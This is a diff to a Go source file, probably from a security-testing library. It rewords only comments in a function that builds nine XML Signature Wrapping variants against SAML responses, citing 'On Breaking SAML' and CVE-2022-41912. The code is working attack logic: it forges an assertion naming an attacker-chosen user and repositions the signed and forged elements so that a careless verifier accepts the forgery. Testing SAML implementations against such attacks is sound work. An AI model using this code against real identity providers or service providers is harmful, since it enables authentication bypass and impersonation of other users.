@@ -6,14 +6,13 @@ import (
 	"github.com/beevik/etree"
 )
 
-// Wraps is how many ways [Wrap] knows.
+// Wraps is the number of variants of [Wrap].
 const Wraps = 9
 
-// Wrap moves the parts of a signed response about, so that the signature is still
-// over what was signed, and somebody else stands where a careless reader looks
-// (Somorovsky et al., "On Breaking SAML", 2012). The ways 1 and 2 need a signed
-// response, 3 to 8 a signed assertion; 9 adds an unsigned assertion after the
-// signed one (CVE-2022-41912). The NameID becomes evil.
+// Wrap moves the parts of a signed response, so that the signature still covers the signed
+// content, but a careless reader finds another user (Somorovsky et al., "On Breaking SAML",
+// 2012). Variants 1 and 2 require a signed response, 3 to 8 a signed assertion; 9 adds an
+// unsigned assertion after the signed one (CVE-2022-41912). The NameID becomes evil.
 func Wrap(doc *etree.Document, way int, evil string) {
 	root := doc.Root()
 	if way <= 2 {
@@ -23,36 +22,35 @@ func Wrap(doc *etree.Document, way int, evil string) {
 	good := child(root, "Assertion")
 	forged := forge(good, evil)
 	switch way {
-	case 3: // beside, in front
+	case 3: // the forged one in front
 		root.InsertChildAt(good.Index(), withoutSignature(forged))
-	case 4: // the good one inside of the forged one
+	case 4: // the valid one inside the forged one
 		put(root, good, withoutSignature(forged))
 		forged.AddChild(good)
-	case 5: // the forged one has the signature, and the good one stands at the end
+	case 5: // the forged one contains the signature, and the valid one is at the end
 		put(root, good, forged)
 		root.AddChild(withoutSignature(good))
-	case 6: // the good one in the signature of the forged one
+	case 6: // the valid one in the signature of the forged one
 		put(root, good, forged)
 		child(forged, "Signature").AddChild(withoutSignature(good))
 	case 7: // the forged one in Extensions
 		extensions := &etree.Element{Space: root.Space, Tag: "Extensions"}
 		extensions.AddChild(withoutSignature(forged))
 		root.InsertChildAt(good.Index(), extensions)
-	case 8: // the good one in an Object of the signature
+	case 8: // the valid one in an Object of the signature
 		put(root, good, forged)
 		signature := child(forged, "Signature")
 		object := &etree.Element{Space: signature.Space, Tag: "Object"}
 		object.AddChild(withoutSignature(good))
 		signature.AddChild(object)
-	case 9: // beside, behind
+	case 9: // the forged one behind
 		root.AddChild(withoutSignature(forged))
 	default:
 		panic(fmt.Sprintf("no way %d of wrapping", way))
 	}
 }
 
-// wrapResponse puts the good response into or beside the signature of a forged
-// one.
+// wrapResponse puts the valid response into or next to the signature of a forged one.
 func wrapResponse(doc *etree.Document, way int, evil string) {
 	good := doc.Root()
 	forged := good.Copy()
@@ -74,7 +72,7 @@ func wrapResponse(doc *etree.Document, way int, evil string) {
 	doc.SetRoot(forged)
 }
 
-// forge returns a copy of the assertion, with its signature, about somebody else.
+// forge returns a copy of the assertion, with its signature, for another user.
 func forge(good *etree.Element, evil string) *etree.Element {
 	forged := good.Copy()
 	forged.CreateAttr("ID", NewID())
@@ -104,7 +102,7 @@ func withoutSignature(e *etree.Element) *etree.Element {
 	return e
 }
 
-// put puts a new element in the place of an old one.
+// put replaces an element with a new one.
 func put(parent, old, replacement *etree.Element) {
 	at := old.Index()
 	parent.RemoveChild(old)
